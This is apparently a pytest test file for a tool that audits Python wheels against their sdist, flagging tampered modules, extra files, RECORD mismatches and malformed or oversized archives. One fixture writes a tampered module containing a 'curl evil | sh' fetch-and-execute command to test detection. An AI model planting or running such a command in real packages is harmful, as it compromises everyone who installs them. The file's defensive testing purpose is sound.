"""Wheels against the sdist they come from: a real faithful wheel is all copies; a tampered module
(RECORD fixed), an extra file and an inconsistent RECORD are each named; hostile wheels end in a
one-line error."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest

from verifier.errors import ArchiveError, BadInput
from verifier.report.model.verdict import Verdict
from verifier.wheel.audit import audit_wheel
from verifier.wheel.contents import MAX_METADATA_FILE_BYTES, read_wheel
from verifier.wheel.epoch import epoch_candidates
from verifier.wheel.explain import explain_wheel
from verifier.wheel.interface import parse_wheel_name
from verifier.wheel.sdist_relation import sdist_digests

from .conftest import rewrite_wheel

MODULE = "itsdangerous/signer.py"


@pytest.mark.network
def test_faithful_wheel_is_all_copies(real_release: dict[str, Path]) -> None:
    result = audit_wheel(real_release["wheel"], real_release["sdist"])
    assert result.verdict is Verdict.FROM_SOURCE, result.findings
    assert result.copies >= 8 and result.metadata_files >= 4
    assert not result.findings


@pytest.mark.network
def test_tampered_module_with_consistent_record(real_release: dict[str, Path], tmp_path: Path) -> None:
    tampered = rewrite_wheel(real_release["wheel"], tmp_path / real_release["wheel"].name,
                             {MODULE: b"import os\nos.system('curl evil | sh')\n"})
    result = audit_wheel(tampered, real_release["sdist"])
    assert result.verdict is Verdict.NOT_FROM_SOURCE
    assert [(f.kind, f.path) for f in result.findings] == [("module-differs-from-sdist", MODULE)]


@pytest.mark.network
def test_extra_file_and_inconsistent_record(real_release: dict[str, Path], tmp_path: Path) -> None:
    extra = rewrite_wheel(real_release["wheel"], tmp_path / "extra.whl", {"itsdangerous/_hook.py": b"x = 1\n"})
    findings = audit_wheel(extra, real_release["sdist"]).findings
    assert [(f.kind, f.path) for f in findings] == [("not-in-sdist", "itsdangerous/_hook.py")]
    sloppy = rewrite_wheel(real_release["wheel"], tmp_path / "sloppy.whl", {MODULE: b"x = 2\n"}, fix_record=False)
    kinds = {(f.kind, f.path) for f in audit_wheel(sloppy, real_release["sdist"]).findings}
    assert ("record-mismatch", MODULE) in kinds and ("module-differs-from-sdist", MODULE) in kinds


@pytest.mark.network
def test_explanations_name_generator_and_untracked(real_release: dict[str, Path], tmp_path: Path) -> None:
    published = read_wheel(rewrite_wheel(real_release["wheel"], tmp_path / "a.whl", {"itsdangerous/_new.py": b"y\n"}))
    wheel_name = f"{published.dist_info}/WHEEL"
    other = read_wheel(rewrite_wheel(real_release["wheel"], tmp_path / "b.whl",
                                     {wheel_name: published.wheel_text.replace("flit", "flot").encode()}))
    assert published.generator is not None and published.generator.startswith("flit")
    findings = explain_wheel(published, other, sdist_digests(real_release["sdist"]), frozenset({"src/itsdangerous/signer.py"}))
    messages = " | ".join(f.message for f in findings)
    assert "neither the sdist nor the tagged tree" in messages and "another backend version" in messages


@pytest.mark.network
def test_epoch_from_zip_times(real_release: dict[str, Path]) -> None:
    candidates = epoch_candidates(read_wheel(real_release["wheel"]))
    assert candidates and all(c > 1_600_000_000 for c in candidates)


@pytest.mark.parametrize(("name", "pure"), [("a-1.0-py3-none-any.whl", True), ("a-1.0-py2.py3-none-any.whl", True),
                                            ("a-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", False),
                                            ("a-1.0-cp311-abi3-win_amd64.whl", False)])
def test_pure_wheel_names(name: str, pure: bool) -> None:
    assert parse_wheel_name(name).pure is pure


def test_bad_wheel_name() -> None:
    with pytest.raises(BadInput, match="not a wheel file name"):
        parse_wheel_name("evil.whl")


def test_not_a_zip_and_oversized_record(tmp_path: Path) -> None:
    tar = tmp_path / "a-1.0-py3-none-any.whl"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("x"), io.BytesIO(b""))
    tar.write_bytes(buffer.getvalue())
    with pytest.raises(ArchiveError, match="not a zip"):
        read_wheel(tar)
    bomb = tmp_path / "b-1.0-py3-none-any.whl"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("b-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")
        archive.writestr("b-1.0.dist-info/RECORD", b"\0" * (MAX_METADATA_FILE_BYTES + 1))
    with pytest.raises(ArchiveError, match="too large"):
        read_wheel(bomb)
